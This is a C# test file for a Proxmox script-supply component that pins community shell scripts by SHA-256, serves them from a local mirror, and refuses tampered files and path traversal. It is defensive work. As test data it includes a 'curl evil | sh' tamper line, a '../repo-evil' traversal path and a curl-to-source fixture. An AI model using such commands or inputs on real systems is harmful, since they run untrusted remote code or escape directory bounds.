using System.Text;
using LxcForge.Core.Templates;
using LxcForge.Proxmox.Community;
using LxcForge.Testing.Utils;

namespace LxcForge.Proxmox.Tests.Community;

public sealed class PinnedScriptSupplySpecs : IDisposable
{
    private readonly TempDir _dir = TempDir.Create();

    private string Repo => _dir.Combine("repo");

    private PinnedScriptSupply Supply(List<string>? log = null) =>
        new(
            new LocalDirectoryOrigin(Repo, "community-scripts/ProxmoxVE", "8386465a927ac72f518d1c54ce21fe3c2df03407"),
            _dir.Combine("cache"),
            _dir.Combine("scripts.lock"),
            log is null ? null : log.Add
        );

    public PinnedScriptSupplySpecs()
    {
        Directory.CreateDirectory(Path.Combine(Repo, "ct"));
        Directory.CreateDirectory(Path.Combine(Repo, "misc"));
        File.WriteAllText(
            Path.Combine(Repo, "ct", "app.sh"),
            "source <(curl -fsSL https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/misc/build.func)\n"
        );
        File.WriteAllText(Path.Combine(Repo, "misc", "build.func"), "echo build\n");
    }

    [Fact]
    public async Task I_get_the_files_served_from_a_mirror_with_main_urls_rewritten_and_the_lock_written_on_first_use()
    {
        // Arrange
        var log = new List<string>();

        // Act
        await using var run = await Supply(log).PrepareAsync(["ct/app.sh", "misc/build.func"], null);
        using var http = new HttpClient();
        var ct = await http.GetStringAsync(new Uri(run.MirrorBase + "ct/app.sh"));
        var missing = await http.GetAsync(new Uri(run.MirrorBase + "ct/other.sh"));

        // Assert
        run.MirrorBase.Should().StartWith("http://127.0.0.1:");
        ct.Should().Be($"source <(curl -fsSL {run.MirrorBase}misc/build.func)\n");
        missing.StatusCode.Should().Be(System.Net.HttpStatusCode.NotFound);
        File.ReadAllText(_dir.Combine("scripts.lock")).Should().Contain("ct/app.sh").And.Contain("ref 8386465a927ac72f518d1c54ce21fe3c2df03407");
        log.Should().ContainSingle(l => l.Contains("first use"));
        run.Sha256ByPath.Should().ContainKeys("ct/app.sh", "misc/build.func");
    }

    [Fact]
    public async Task A_tampered_file_is_refused_before_anything_is_served()
    {
        // Arrange: pin, then change the file in the repository and drop the cache.
        await (await Supply().PrepareAsync(["ct/app.sh", "misc/build.func"], null)).DisposeAsync();
        File.AppendAllText(Path.Combine(Repo, "misc", "build.func"), "curl evil | sh\n");
        Directory.Delete(_dir.Combine("cache"), recursive: true);

        // Act
        var act = () => Supply().PrepareAsync(["ct/app.sh", "misc/build.func"], null);

        // Assert
        (await act.Should().ThrowAsync<ScriptIntegrityException>()).WithMessage(
            "misc/build.func: sha256 mismatch against *scripts.lock: expected *, got *; refusing to run it"
        );
    }

    [Fact]
    public async Task A_file_the_lock_does_not_list_yet_is_pinned_on_first_use_and_then_held_to_it()
    {
        // Arrange
        await (await Supply().PrepareAsync(["ct/app.sh"], null)).DisposeAsync();
        var log = new List<string>();

        // Act
        await (await Supply(log).PrepareAsync(["ct/app.sh", "misc/build.func"], null)).DisposeAsync();
        File.AppendAllText(Path.Combine(Repo, "misc", "build.func"), "changed\n");
        Directory.Delete(_dir.Combine("cache"), recursive: true);
        var act = () => Supply().PrepareAsync(["ct/app.sh", "misc/build.func"], null);

        // Assert
        log.Should().ContainSingle(l => l.Contains("misc/build.func") && l.Contains("first use"));
        File.ReadAllText(_dir.Combine("scripts.lock")).Should().Contain("ct/app.sh").And.Contain("misc/build.func");
        (await act.Should().ThrowAsync<ScriptIntegrityException>()).WithMessage("misc/build.func: sha256 mismatch*");
    }

    [Fact]
    public async Task A_lock_for_another_ref_is_refused()
    {
        File.WriteAllText(_dir.Combine("scripts.lock"), "repository community-scripts/ProxmoxVE\nref 0000000000000000000000000000000000000000\n");

        var act = () => Supply().PrepareAsync(["ct/app.sh"], null);

        (await act.Should().ThrowAsync<ScriptIntegrityException>()).WithMessage("*expected community-scripts/ProxmoxVE@0000*got*@8386465a*");
    }

    public void Dispose() => _dir.Dispose();

    [Fact]
    public async Task A_local_copy_never_serves_a_file_from_a_sibling_directory_that_shares_its_prefix()
    {
        // Arrange: /…/repo and /…/repo-evil; a bare prefix test took "../repo-evil/…" as inside "/…/repo".
        Directory.CreateDirectory(Repo + "-evil/ct");
        await File.WriteAllTextAsync(Repo + "-evil/ct/app.sh", "echo evil\n");
        var origin = new LocalDirectoryOrigin(Repo, "community-scripts/ProxmoxVE", "8386465a927ac72f518d1c54ce21fe3c2df03407");

        // Act
        var sibling = () => origin.ReadAsync("../repo-evil/ct/app.sh");
        var inside = await origin.ReadAsync("ct/app.sh");

        // Assert
        await sibling.Should().ThrowAsync<ArgumentException>().WithMessage("*points outside*");
        inside.Should().NotBeNull();
    }
}
